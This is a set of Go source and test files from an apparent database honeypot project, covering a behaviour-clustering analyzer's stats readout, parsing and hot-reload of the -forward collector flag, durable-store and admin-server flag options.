		buf[i] = '-'
	}
	return string(buf[i:])
}
