package stream

import (
	"sort"

	"decoydb/internal/classify"
	"net/netip"
)

// This file is the read side of the analyzer: everything here runs at
// scrape or query time (admin-plane handlers, obs adapters, the
// TraceRing verdict feed), never on the ingest hot path, and takes the
// same mutex the writers do.

// Stats is a point-in-time snapshot of analyzer counters.
type Stats struct {
	Events   uint64 `json:"events"`
	Batches  uint64 `json:"batches"`
	Sources  int    `json:"sources"`
	Evicted  uint64 `json:"evicted"`
	Assigns  uint64 `json:"assigns"`
	Clusters int    `json:"clusters"`
	Refits   uint64 `json:"refits"`
	Merged   uint64 `json:"merged"`
	Dropped  uint64 `json:"dropped"`
	Capped   uint64 `json:"capped"`
	Vocab    int    `json:"vocab"`
	// Alert totals, lifetime (the ring retains only the newest).
	Alerts      uint64 `json:"alerts"`
	Escalations uint64 `json:"escalations"`
	NewClusters uint64 `json:"new_clusters"`
	Shifts      uint64 `json:"shifts"`
}

// Stats returns current counters.
func (a *Analyzer) Stats() Stats {
	a.mu.Lock()
	defer a.mu.Unlock()
	return Stats{
		Events:      a.events,
		Batches:     a.batches,
		Sources:     len(a.sources),
		Evicted:     a.evicted,
		Assigns:     a.assignsN,
		Clusters:    len(a.asn.centroids),
		Refits:      a.asn.refits,
		Merged:      a.asn.merged,
		Dropped:     a.asn.dropped,
		Capped:      a.asn.capped,
		Vocab:       len(a.asn.names),
		Alerts:      a.alerts.total,
		Escalations: a.alerts.byKind[EscalationAlert],
		NewClusters: a.alerts.byKind[NewClusterAlert],
		Shifts:      a.alerts.byKind[ClusterShiftAlert],
	}
}

// Alerts returns up to limit retained alerts, newest first (limit <= 0
// returns everything retained).
func (a *Analyzer) Alerts(limit int) []Alert {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.alerts.recent(limit)
}

// ClusterInfo describes one live behaviour cluster.
type ClusterInfo struct {
	ID int `json:"id"`
	// Members counts live (non-evicted) sources currently assigned.
	Members int `json:"members"`
	// Assigns counts lifetime assignment events into this cluster.
	Assigns uint64 `json:"assigns"`
	// TopActions are the centroid's highest-weight action tokens — the
	// behaviour the cluster represents, readable at a glance.
	TopActions []string `json:"top_actions,omitempty"`
}

// Clusters returns the live clusters, largest membership first.
func (a *Analyzer) Clusters() []ClusterInfo {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]ClusterInfo, 0, len(a.asn.centroids))
	for _, c := range a.asn.centroids {
		out = append(out, ClusterInfo{
			ID:         c.id,
			Members:    c.members,
			Assigns:    c.assigns,
			TopActions: a.asn.topActions(c, 5),
		})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Members != out[j].Members {
			return out[i].Members > out[j].Members
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// Verdict reports the current behaviour of a source, if the analyzer is
// tracking it. It is the feed obs.TraceRing consults so /traces can show
// a live classification while a session is still open.
func (a *Analyzer) Verdict(addr netip.Addr) (classify.Behavior, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	s, ok := a.sources[addr]
	if !ok {
		return classify.Scanning, false
	}
	return s.behavior, true
}

// Cluster reports the cluster a source is currently assigned to
// (-1, false when untracked or not yet assigned).
func (a *Analyzer) Cluster(addr netip.Addr) (int, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	s, ok := a.sources[addr]
	if !ok || s.cluster < 0 {
		return -1, false
	}
	return s.cluster, true
}
