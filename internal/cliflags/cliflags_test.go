package cliflags

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
	"time"

	"decoydb/internal/relay"
)

func TestParseForwardStructured(t *testing.T) {
	cases := []struct {
		spec  string
		addrs []string
		token string
		farm  string
		block bool
	}{
		{"addrs=a:9000,token=s", []string{"a:9000"}, "s", "", false},
		{"addrs=a:9000|b:9000|c:9000,token=s", []string{"a:9000", "b:9000", "c:9000"}, "s", "", false},
		{"addrs=a:9000| b:9000 ,token=s", []string{"a:9000", "b:9000"}, "s", "", false},
		{"addr=a:9000,token=s", []string{"a:9000"}, "s", "", false},
		{"addrs=a:9000,token=s,farm=eu-1", []string{"a:9000"}, "s", "eu-1", false},
		{"addrs=a:9000,token=s,block=true", []string{"a:9000"}, "s", "", true},
		{"token=s,addrs=a:9000,block=1,farm=x", []string{"a:9000"}, "s", "x", true},
	}
	for _, c := range cases {
		got, err := ParseForward(c.spec, relay.ForwardOptions{})
		if err != nil {
			t.Errorf("ParseForward(%q): %v", c.spec, err)
			continue
		}
		if !reflect.DeepEqual(got.Addrs, c.addrs) || got.Token != c.token || got.Farm != c.farm || got.Block != c.block {
			t.Errorf("ParseForward(%q) = addrs=%v token=%q farm=%q block=%v, want addrs=%v token=%q farm=%q block=%v",
				c.spec, got.Addrs, got.Token, got.Farm, got.Block, c.addrs, c.token, c.farm, c.block)
		}
	}
}

// TestParseForwardEquivalence pins the redesign contract: every legacy
// positional spec parses to exactly the options its structured
// spelling produces.
func TestParseForwardEquivalence(t *testing.T) {
	pairs := []struct{ legacy, structured string }{
		{"collector:9000,hunter2", "addrs=collector:9000,token=hunter2"},
		{"collector:9000,hunter2,farm-eu-1", "addrs=collector:9000,token=hunter2,farm=farm-eu-1"},
		{"10.0.0.7:9000,s3cret,edge", "addrs=10.0.0.7:9000,token=s3cret,farm=edge"},
	}
	for _, p := range pairs {
		base := relay.ForwardOptions{Farm: "preset", Block: true}
		old, err := ParseForward(p.legacy, base)
		if err != nil {
			t.Fatalf("legacy %q: %v", p.legacy, err)
		}
		niu, err := ParseForward(p.structured, base)
		if err != nil {
			t.Fatalf("structured %q: %v", p.structured, err)
		}
		if !reflect.DeepEqual(old, niu) {
			t.Errorf("legacy %q != structured %q:\n  legacy:     %+v\n  structured: %+v", p.legacy, p.structured, old, niu)
		}
	}
}

func TestParseForwardBasePreserved(t *testing.T) {
	base := relay.ForwardOptions{Farm: "preset", Block: true, FrameEvents: 99}
	got, err := ParseForward("addrs=a:9000,token=s", base)
	if err != nil {
		t.Fatal(err)
	}
	if got.Farm != "preset" || !got.Block || got.FrameEvents != 99 {
		t.Errorf("base options clobbered: %+v", got)
	}
	// block=false must be able to override a true base.
	got, err = ParseForward("addrs=a:9000,token=s,block=false", base)
	if err != nil {
		t.Fatal(err)
	}
	if got.Block {
		t.Error("block=false did not override base.Block")
	}
}

func TestParseForwardErrors(t *testing.T) {
	specs := []string{
		"",                           // empty
		"collector:9000",             // legacy without token
		",tok",                       // legacy without addr
		"addrs=a:9000",               // missing token
		"token=s",                    // missing addrs
		"addrs=,token=s",             // empty value
		"addrs=a:9000,token=s,x=1",   // unknown key
		"addrs=a:9000,token=s,block", // segment without value
		"addrs=a:9000,token=s,block=maybe", // bad bool
	}
	for _, spec := range specs {
		if _, err := ParseForward(spec, relay.ForwardOptions{}); err == nil {
			t.Errorf("ParseForward(%q): want error, got nil", spec)
		}
	}
}

func TestForwardFlagSink(t *testing.T) {
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd := RegisterForward(fs)
	if err := fs.Parse([]string{"-forward", "addrs=127.0.0.1:1|127.0.0.1:2,token=s,farm=f"}); err != nil {
		t.Fatal(err)
	}
	if !fwd.Enabled() {
		t.Fatal("flag set but Enabled() == false")
	}
	sink, err := fwd.Sink(relay.ForwardOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	st := sink.Stats()
	if len(st.Endpoints) != 2 {
		t.Fatalf("endpoints = %d, want 2", len(st.Endpoints))
	}

	// Unset flag: no sink, no error.
	fs2 := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd2 := RegisterForward(fs2)
	if err := fs2.Parse(nil); err != nil {
		t.Fatal(err)
	}
	if sink2, err := fwd2.Sink(relay.ForwardOptions{}); err != nil || sink2 != nil {
		t.Fatalf("unset flag: sink=%v err=%v, want nil/nil", sink2, err)
	}
}

func TestPeersFlag(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"a:7070", []string{"a:7070"}},
		{"a:7070,b:7070", []string{"a:7070", "b:7070"}},
		{"a:7070|b:7070, c:7070", []string{"a:7070", "b:7070", "c:7070"}},
		{" , ", nil},
	}
	for _, c := range cases {
		fs := flag.NewFlagSet("t", flag.ContinueOnError)
		p := RegisterPeers(fs)
		args := []string{}
		if c.in != "" {
			args = []string{"-peers", c.in}
		}
		if err := fs.Parse(args); err != nil {
			t.Fatal(err)
		}
		if got := p.List(); !reflect.DeepEqual(got, c.want) {
			t.Errorf("Peers(%q).List() = %v, want %v", c.in, got, c.want)
		}
		if p.Enabled() != (len(c.want) > 0) {
			t.Errorf("Peers(%q).Enabled() = %v", c.in, p.Enabled())
		}
	}
}

func TestForwardHelpMentionsBothGrammars(t *testing.T) {
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	RegisterForward(fs)
	var b strings.Builder
	fs.SetOutput(&b)
	fs.PrintDefaults()
	help := b.String()
	for _, want := range []string{"addrs=", "token=", "legacy"} {
		if !strings.Contains(help, want) {
			t.Errorf("-forward help %q missing %q", help, want)
		}
	}
}

// TestParseForwardRejectsDuplicateAddrs pins the satellite contract: a
// duplicated collector endpoint in addrs= is always a typo, and letting
// it through would double-weight the collector in rendezvous ranking —
// so the parser rejects it instead of deduping silently.
func TestParseForwardRejectsDuplicateAddrs(t *testing.T) {
	specs := []string{
		"addrs=a:9000|b:9000|a:9000,token=s",
		"addrs=a:9000|a:9000,token=s",
		"addrs=a:9000| a:9000,token=s", // duplicate after trimming
	}
	for _, spec := range specs {
		_, err := ParseForward(spec, relay.ForwardOptions{})
		if err == nil {
			t.Errorf("ParseForward(%q): want duplicate-address error, got nil", spec)
			continue
		}
		if !strings.Contains(err.Error(), "duplicate") {
			t.Errorf("ParseForward(%q): err = %v, want a duplicate-address error", spec, err)
		}
	}
	// Distinct addresses still parse.
	if _, err := ParseForward("addrs=a:9000|b:9000,token=s", relay.ForwardOptions{}); err != nil {
		t.Errorf("distinct addrs rejected: %v", err)
	}
}

// TestForwardFile covers the -forward-file path: the spec is read from
// disk at Sink time, Reload re-reads it and re-ranks the live sink via
// SetEndpoints, and the mutually-exclusive / empty-file cases error.
func TestForwardFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "forward.conf")
	if err := os.WriteFile(path, []byte("addrs=127.0.0.1:1,token=s,farm=f\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd := RegisterForward(fs)
	if err := fs.Parse([]string{"-forward-file", path}); err != nil {
		t.Fatal(err)
	}
	if !fwd.Enabled() {
		t.Fatal("-forward-file set but Enabled() == false")
	}
	sink, err := fwd.Sink(relay.ForwardOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	if st := sink.Stats(); len(st.Endpoints) != 1 || st.Endpoints[0].Addr != "127.0.0.1:1" {
		t.Fatalf("initial endpoints = %+v", st.Endpoints)
	}

	// Edit the file, reload: the sink re-ranks onto the new tier. A farm
	// or token change in the same edit is ignored with a warning, not
	// half-applied.
	if err := os.WriteFile(path, []byte("addrs=127.0.0.1:1|127.0.0.1:2,token=other,farm=g\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var warned strings.Builder
	logf := func(format string, args ...any) { fmt.Fprintf(&warned, format+"\n", args...) }
	if err := fwd.Reload(sink, relay.ForwardOptions{}, logf); err != nil {
		t.Fatal(err)
	}
	st := sink.Stats()
	if st.Reloads != 1 || len(st.Endpoints) != 2 {
		t.Fatalf("after reload: Reloads=%d endpoints=%d, want 1/2", st.Reloads, len(st.Endpoints))
	}
	if !strings.Contains(warned.String(), "farm") || !strings.Contains(warned.String(), "token") {
		t.Fatalf("farm/token change not warned about: %q", warned.String())
	}

	// A reload that parses to garbage errors and leaves the sink alone.
	if err := os.WriteFile(path, []byte("addrs=a:1|a:1,token=s\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := fwd.Reload(sink, relay.ForwardOptions{}, nil); err == nil {
		t.Fatal("reload of a bad spec did not error")
	}
	if st := sink.Stats(); st.Reloads != 1 {
		t.Fatalf("failed reload still re-ranked (Reloads=%d)", st.Reloads)
	}

	// Reload with no sink (forwarding disabled) is a no-op.
	if err := fwd.Reload(nil, relay.ForwardOptions{}, nil); err != nil {
		t.Fatalf("nil-sink reload: %v", err)
	}

	// Both flags together is a configuration error.
	fs2 := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd2 := RegisterForward(fs2)
	if err := fs2.Parse([]string{"-forward", "addrs=a:1,token=s", "-forward-file", path}); err != nil {
		t.Fatal(err)
	}
	if _, err := fwd2.Sink(relay.ForwardOptions{}); err == nil {
		t.Fatal("-forward plus -forward-file did not error")
	}

	// An empty spec file is a configuration error, not a silent no-op.
	empty := filepath.Join(t.TempDir(), "empty.conf")
	if err := os.WriteFile(empty, []byte(" \n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fs3 := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd3 := RegisterForward(fs3)
	if err := fs3.Parse([]string{"-forward-file", empty}); err != nil {
		t.Fatal(err)
	}
	if _, err := fwd3.Sink(relay.ForwardOptions{}); err == nil {
		t.Fatal("empty -forward-file did not error")
	}
}

// TestForwardSIGHUPReload arms the real signal handler and delivers a
// SIGHUP to the test process: the file edit must be applied to the live
// sink without any call other than the signal.
func TestForwardSIGHUPReload(t *testing.T) {
	path := filepath.Join(t.TempDir(), "forward.conf")
	if err := os.WriteFile(path, []byte("addrs=127.0.0.1:1,token=s\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	fwd := RegisterForward(fs)
	if err := fs.Parse([]string{"-forward-file", path}); err != nil {
		t.Fatal(err)
	}
	sink, err := fwd.Sink(relay.ForwardOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	stop := fwd.WatchSIGHUP(sink, relay.ForwardOptions{}, t.Logf)
	defer stop()

	if err := os.WriteFile(path, []byte("addrs=127.0.0.1:1|127.0.0.1:2,token=s\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Kill(os.Getpid(), syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(5 * time.Second)
	for sink.Stats().Reloads == 0 {
		if !time.Now().Before(deadline) {
			t.Fatal("timed out waiting for the SIGHUP reload")
		}
		time.Sleep(2 * time.Millisecond)
	}
	if st := sink.Stats(); len(st.Endpoints) != 2 {
		t.Fatalf("endpoints after SIGHUP = %+v, want 2", st.Endpoints)
	}
}
