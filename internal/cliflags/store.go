package cliflags

import (
	"compress/flate"
	"flag"
	"fmt"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"decoydb/internal/evcodec"
	"decoydb/internal/wal"
)

// Store carries the -store flag value after flag parsing. One flag
// configures every durable log a binary keeps: the directory is the
// root, and each log lives in a named subdirectory (dbcollect journals
// under <dir>/collector; decoydb keeps its capture journal under
// <dir>/journal and its relay spool under <dir>/spool), so one -store
// value moves the whole durable state of a process.
type Store struct {
	Spec *string
}

// RegisterStore registers the -store flag on fs.
func RegisterStore(fs *flag.FlagSet) *Store {
	return &Store{
		Spec: fs.String("store", "",
			"durable event storage: DIR[,fsync=interval|batch|off][,interval=DUR][,segbytes=N][,compress=none|speed|best] — captures survive restarts"),
	}
}

// Enabled reports whether the flag was set.
func (s *Store) Enabled() bool { return *s.Spec != "" }

// Dir returns the configured root directory ("" when disabled).
func (s *Store) Dir() string {
	dir, _, _ := strings.Cut(*s.Spec, ",")
	return dir
}

// Options resolves the parsed flag into wal.Options rooted at the named
// subdirectory of the flag's directory.
func (s *Store) Options(subdir string, logf func(string, ...any)) (wal.Options, error) {
	dir, rest, _ := strings.Cut(*s.Spec, ",")
	if dir == "" {
		return wal.Options{}, fmt.Errorf("-store: empty directory in %q", *s.Spec)
	}
	opts := wal.Options{Dir: filepath.Join(dir, subdir), Logf: logf}
	for _, kv := range strings.Split(rest, ",") {
		if kv == "" {
			continue
		}
		key, val, ok := strings.Cut(kv, "=")
		if !ok {
			return wal.Options{}, fmt.Errorf("-store: want key=value, got %q", kv)
		}
		switch key {
		case "fsync":
			pol, err := wal.ParseSyncPolicy(val)
			if err != nil {
				return wal.Options{}, fmt.Errorf("-store: %w", err)
			}
			opts.Sync = pol
		case "interval":
			d, err := time.ParseDuration(val)
			if err != nil {
				return wal.Options{}, fmt.Errorf("-store: interval: %w", err)
			}
			opts.SyncEvery = d
		case "segbytes":
			n, err := strconv.ParseInt(val, 10, 64)
			if err != nil || n <= 0 {
				return wal.Options{}, fmt.Errorf("-store: segbytes: want a positive integer, got %q", val)
			}
			opts.SegmentBytes = n
		case "compress":
			switch val {
			case "none", "":
				opts.CompressionLevel = evcodec.LevelStored
			case "speed":
				opts.CompressionLevel = flate.BestSpeed
			case "best":
				opts.CompressionLevel = flate.BestCompression
			default:
				return wal.Options{}, fmt.Errorf("-store: compress: want none, speed or best, got %q", val)
			}
		default:
			return wal.Options{}, fmt.Errorf("-store: unknown option %q (want fsync, interval, segbytes or compress)", key)
		}
	}
	return opts, nil
}

// Open opens (creating or recovering) the log under the named
// subdirectory. It returns (nil, nil) when the flag was not set.
func (s *Store) Open(subdir string, logf func(string, ...any)) (*wal.Log, error) {
	if !s.Enabled() {
		return nil, nil
	}
	opts, err := s.Options(subdir, logf)
	if err != nil {
		return nil, err
	}
	l, err := wal.Open(opts)
	if err != nil {
		return nil, fmt.Errorf("-store: %w", err)
	}
	return l, nil
}
