// Package cliflags holds flag groups shared by the command-line
// binaries, so dbsim and decoydb register the event-bus and relay
// forwarding knobs once, with one set of names and help strings,
// instead of drifting apart flag by flag.
package cliflags

import (
	"flag"
	"fmt"
	"strings"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/relay"
)

// Bus carries the shared event-bus flag values after flag parsing.
type Bus struct {
	Shards       *int
	Policy       *string
	HighWater    *int
	LowWater     *int
	SourceBudget *int
	SourceWindow *time.Duration
}

// RegisterBus registers the event-bus backpressure flags on fs.
// defaultPolicy differs by binary: dbsim defaults to the lossless
// "block" (the dataset must be a pure function of the seed), decoydb to
// "adaptive" (a live farm sheds a hostile flood instead of stalling).
func RegisterBus(fs *flag.FlagSet, defaultPolicy string) *Bus {
	return &Bus{
		Shards:       fs.Int("bus-shards", 0, "event bus shard count (0 = GOMAXPROCS)"),
		Policy:       fs.String("bus-policy", defaultPolicy, "event bus backpressure policy under load: block, drop or adaptive"),
		HighWater:    fs.Int("bus-highwater", 0, "adaptive: queue depth that starts per-source shedding (0 = 3/4 of queue)"),
		LowWater:     fs.Int("bus-lowwater", 0, "adaptive: queue depth that stops shedding (0 = 1/4 of queue)"),
		SourceBudget: fs.Int("bus-source-budget", 0, "adaptive: events each source keeps per window while shedding (0 = default)"),
		SourceWindow: fs.Duration("bus-source-window", 0, "adaptive: per-source budget window (0 = default)"),
	}
}

// Options resolves the parsed flags into bus.Options.
func (b *Bus) Options() (bus.Options, error) {
	policy, err := bus.ParsePolicy(*b.Policy)
	if err != nil {
		return bus.Options{}, fmt.Errorf("-bus-policy: %w", err)
	}
	return bus.Options{
		Shards: *b.Shards, Policy: policy,
		HighWater: *b.HighWater, LowWater: *b.LowWater,
		SourceBudget: *b.SourceBudget, SourceWindow: *b.SourceWindow,
	}, nil
}

// Forward carries the -forward flag value after flag parsing.
type Forward struct {
	Spec *string
}

// RegisterForward registers the -forward flag on fs: "addr,token" with
// an optional ",farm" naming this sender in the collector's books.
func RegisterForward(fs *flag.FlagSet) *Forward {
	return &Forward{
		Spec: fs.String("forward", "", "forward events to a dbcollect collector: host:port,token[,farm]"),
	}
}

// Enabled reports whether the flag was set.
func (f *Forward) Enabled() bool { return *f.Spec != "" }

// Sink builds a relay.ForwardSink from the parsed flag, using base for
// everything the flag does not carry (Block, spool sizes, Logf, ...).
// It returns (nil, nil) when the flag was not set.
func (f *Forward) Sink(base relay.ForwardOptions) (*relay.ForwardSink, error) {
	if !f.Enabled() {
		return nil, nil
	}
	addr, rest, ok := strings.Cut(*f.Spec, ",")
	if !ok {
		return nil, fmt.Errorf("-forward: want host:port,token[,farm], got %q", *f.Spec)
	}
	token, farm, _ := strings.Cut(rest, ",")
	if addr == "" || token == "" {
		return nil, fmt.Errorf("-forward: want host:port,token[,farm], got %q", *f.Spec)
	}
	base.Addr, base.Token = addr, token
	if farm != "" {
		base.Farm = farm
	}
	sink, err := relay.NewForwardSink(base)
	if err != nil {
		return nil, fmt.Errorf("-forward: %w", err)
	}
	return sink, nil
}
