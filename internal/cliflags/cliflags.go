// Package cliflags holds flag groups shared by the command-line
// binaries, so dbsim and decoydb register the event-bus and relay
// forwarding knobs once, with one set of names and help strings,
// instead of drifting apart flag by flag.
package cliflags

import (
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/relay"
)

// Bus carries the shared event-bus flag values after flag parsing.
type Bus struct {
	Shards       *int
	Policy       *string
	HighWater    *int
	LowWater     *int
	SourceBudget *int
	SourceWindow *time.Duration
}

// RegisterBus registers the event-bus backpressure flags on fs.
// defaultPolicy differs by binary: dbsim defaults to the lossless
// "block" (the dataset must be a pure function of the seed), decoydb to
// "adaptive" (a live farm sheds a hostile flood instead of stalling).
func RegisterBus(fs *flag.FlagSet, defaultPolicy string) *Bus {
	return &Bus{
		Shards:       fs.Int("bus-shards", 0, "event bus shard count (0 = GOMAXPROCS)"),
		Policy:       fs.String("bus-policy", defaultPolicy, "event bus backpressure policy under load: block, drop or adaptive"),
		HighWater:    fs.Int("bus-highwater", 0, "adaptive: queue depth that starts per-source shedding (0 = 3/4 of queue)"),
		LowWater:     fs.Int("bus-lowwater", 0, "adaptive: queue depth that stops shedding (0 = 1/4 of queue)"),
		SourceBudget: fs.Int("bus-source-budget", 0, "adaptive: events each source keeps per window while shedding (0 = default)"),
		SourceWindow: fs.Duration("bus-source-window", 0, "adaptive: per-source budget window (0 = default)"),
	}
}

// Options resolves the parsed flags into bus.Options.
func (b *Bus) Options() (bus.Options, error) {
	policy, err := bus.ParsePolicy(*b.Policy)
	if err != nil {
		return bus.Options{}, fmt.Errorf("-bus-policy: %w", err)
	}
	return bus.Options{
		Shards: *b.Shards, Policy: policy,
		HighWater: *b.HighWater, LowWater: *b.LowWater,
		SourceBudget: *b.SourceBudget, SourceWindow: *b.SourceWindow,
	}, nil
}

// Forward carries the -forward flag values after flag parsing.
type Forward struct {
	Spec *string
	File *string

	// farm/token from the spec parsed at Sink time, kept so Reload can
	// warn when a file edit tries to change something only a restart can.
	farm  string
	token string
}

// RegisterForward registers the -forward flags on fs. The structured
// form names a whole collector tier; the legacy positional
// "host:port,token[,farm]" form is still accepted.
func RegisterForward(fs *flag.FlagSet) *Forward {
	return &Forward{
		Spec: fs.String("forward", "", `forward events to a dbcollect collector tier: "addrs=a:9000|b:9000,token=SECRET[,farm=NAME][,block=BOOL]" (legacy host:port,token[,farm] accepted)`),
		File: fs.String("forward-file", "", "read the -forward spec from this file; SIGHUP re-reads it and re-ranks the live forwarder onto the new addrs without a restart"),
	}
}

// Enabled reports whether either forward flag was set.
func (f *Forward) Enabled() bool { return *f.Spec != "" || *f.File != "" }

// spec resolves the active spec text, reading the file form if set.
func (f *Forward) spec() (string, error) {
	if *f.File == "" {
		return *f.Spec, nil
	}
	if *f.Spec != "" {
		return "", fmt.Errorf("-forward and -forward-file are mutually exclusive")
	}
	b, err := os.ReadFile(*f.File)
	if err != nil {
		return "", fmt.Errorf("-forward-file: %w", err)
	}
	s := strings.TrimSpace(string(b))
	if s == "" {
		return "", fmt.Errorf("-forward-file %s: empty spec", *f.File)
	}
	return s, nil
}

// ParseForward resolves a -forward spec into relay.ForwardOptions,
// using base for everything the spec does not carry (spool sizes, Logf,
// timeouts, ...). Two grammars share the flag:
//
//   - Structured: comma-separated key=value pairs — addrs=a:9000|b:9000
//     (|-separated collector endpoints), token=..., farm=..., and
//     block=true|false overriding base.Block. addrs and token are
//     required.
//   - Legacy positional: host:port,token[,farm] — a single collector,
//     exactly the pre-tier flag. Detected by the first comma-separated
//     segment containing no '=' (a host:port never does).
func ParseForward(spec string, base relay.ForwardOptions) (relay.ForwardOptions, error) {
	first, _, _ := strings.Cut(spec, ",")
	if !strings.Contains(first, "=") {
		// Legacy positional form.
		addr, rest, ok := strings.Cut(spec, ",")
		if !ok {
			return base, fmt.Errorf("-forward: want addrs=...,token=... or host:port,token[,farm], got %q", spec)
		}
		token, farm, _ := strings.Cut(rest, ",")
		if addr == "" || token == "" {
			return base, fmt.Errorf("-forward: want addrs=...,token=... or host:port,token[,farm], got %q", spec)
		}
		base.Addrs, base.Token = []string{addr}, token
		if farm != "" {
			base.Farm = farm
		}
		return base, nil
	}
	for _, kv := range strings.Split(spec, ",") {
		key, val, ok := strings.Cut(kv, "=")
		if !ok || val == "" {
			return base, fmt.Errorf("-forward: bad segment %q (want key=value)", kv)
		}
		switch key {
		case "addrs", "addr":
			base.Addrs = nil
			seen := make(map[string]bool)
			for _, a := range strings.Split(val, "|") {
				if a = strings.TrimSpace(a); a != "" {
					// A duplicate endpoint is always a typo, and a
					// dangerous one: rendezvous ranking would count the
					// collector twice, so reject it here rather than
					// letting the sink quietly dedupe.
					if seen[a] {
						return base, fmt.Errorf("-forward: duplicate collector address %q in addrs=%s", a, val)
					}
					seen[a] = true
					base.Addrs = append(base.Addrs, a)
				}
			}
		case "token":
			base.Token = val
		case "farm":
			base.Farm = val
		case "block":
			b, err := strconv.ParseBool(val)
			if err != nil {
				return base, fmt.Errorf("-forward: block=%q: %v", val, err)
			}
			base.Block = b
		default:
			return base, fmt.Errorf("-forward: unknown key %q (want addrs, token, farm or block)", key)
		}
	}
	if len(base.Addrs) == 0 || base.Token == "" {
		return base, fmt.Errorf("-forward: addrs= and token= are required, got %q", spec)
	}
	return base, nil
}

// Sink builds a relay.ForwardSink from the parsed flags via
// ParseForward. It returns (nil, nil) when neither flag was set.
func (f *Forward) Sink(base relay.ForwardOptions) (*relay.ForwardSink, error) {
	if !f.Enabled() {
		return nil, nil
	}
	spec, err := f.spec()
	if err != nil {
		return nil, err
	}
	opts, err := ParseForward(spec, base)
	if err != nil {
		return nil, err
	}
	f.farm, f.token = opts.Farm, opts.Token
	sink, err := relay.NewForwardSink(opts)
	if err != nil {
		return nil, fmt.Errorf("-forward: %w", err)
	}
	return sink, nil
}

// Reload re-reads the forward spec — meaningful with -forward-file,
// where the operator edits the file and signals the process — and
// re-ranks the live forwarder onto the new collector addresses via
// SetEndpoints. Farm and token changes cannot be applied to a running
// sink; they are logged and ignored rather than half-applied.
func (f *Forward) Reload(fwd *relay.ForwardSink, base relay.ForwardOptions, logf func(string, ...any)) error {
	if fwd == nil || !f.Enabled() {
		return nil
	}
	spec, err := f.spec()
	if err != nil {
		return err
	}
	opts, err := ParseForward(spec, base)
	if err != nil {
		return err
	}
	if logf != nil {
		if opts.Farm != f.farm {
			logf("cliflags: -forward reload: farm %q -> %q needs a restart; keeping %q", f.farm, opts.Farm, f.farm)
		}
		if opts.Token != f.token {
			logf("cliflags: -forward reload: token change needs a restart; keeping the old token")
		}
	}
	return fwd.SetEndpoints(opts.Addrs)
}

// WatchSIGHUP arms a SIGHUP handler that calls Reload, so a farm behind
// -forward-file can follow collector tier changes without a restart.
// The returned stop function disarms the handler; it is safe to call
// with a nil sink (returns a no-op stop).
func (f *Forward) WatchSIGHUP(fwd *relay.ForwardSink, base relay.ForwardOptions, logf func(string, ...any)) func() {
	if fwd == nil || !f.Enabled() {
		return func() {}
	}
	ch := make(chan os.Signal, 1)
	signal.Notify(ch, syscall.SIGHUP)
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-done:
				return
			case <-ch:
				if err := f.Reload(fwd, base, logf); err != nil && logf != nil {
					logf("cliflags: -forward reload: %v", err)
				}
			}
		}
	}()
	return func() {
		signal.Stop(ch)
		close(done)
	}
}

// Peers carries the -peers flag value after flag parsing — the admin
// addresses of the other collectors in the tier, whose /query results
// this collector merges so a reader sees one logical capture.
type Peers struct {
	Spec *string
}

// RegisterPeers registers the -peers flag on fs.
func RegisterPeers(fs *flag.FlagSet) *Peers {
	return &Peers{
		Spec: fs.String("peers", "", "admin addresses (host:port) of peer collectors whose /query results are merged into this one's, comma- or |-separated"),
	}
}

// Enabled reports whether the flag was set.
func (p *Peers) Enabled() bool { return len(p.List()) > 0 }

// List returns the parsed peer addresses.
func (p *Peers) List() []string {
	var out []string
	for _, a := range strings.FieldsFunc(*p.Spec, func(r rune) bool { return r == ',' || r == '|' }) {
		if a = strings.TrimSpace(a); a != "" {
			out = append(out, a)
		}
	}
	return out
}
