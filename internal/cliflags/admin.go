package cliflags

import (
	"flag"

	"decoydb/internal/obs"
)

// Admin carries the -admin flag value after flag parsing. One flag
// mounts the whole observability plane: every binary that registers it
// serves /metrics, /healthz, /statusz and /debug/pprof on the given
// address, plus whatever extras the binary wires in (dbcollect adds
// /query, event-handling binaries add /traces).
type Admin struct {
	Addr *string
}

// RegisterAdmin registers the -admin flag on fs.
func RegisterAdmin(fs *flag.FlagSet) *Admin {
	return &Admin{
		Addr: fs.String("admin", "",
			"serve the admin/observability plane (/metrics /healthz /statusz /debug/pprof) on this address, e.g. 127.0.0.1:9200"),
	}
}

// Enabled reports whether the flag was set.
func (a *Admin) Enabled() bool { return *a.Addr != "" }

// Start builds the admin server from opts and binds it to the flag's
// address. It returns (nil, nil) when the flag was not set; the caller
// owns Close on a returned server.
func (a *Admin) Start(opts obs.ServerOptions) (*obs.Server, error) {
	if !a.Enabled() {
		return nil, nil
	}
	s := obs.NewServer(opts)
	if _, err := s.Start(*a.Addr); err != nil {
		return nil, err
	}
	return s, nil
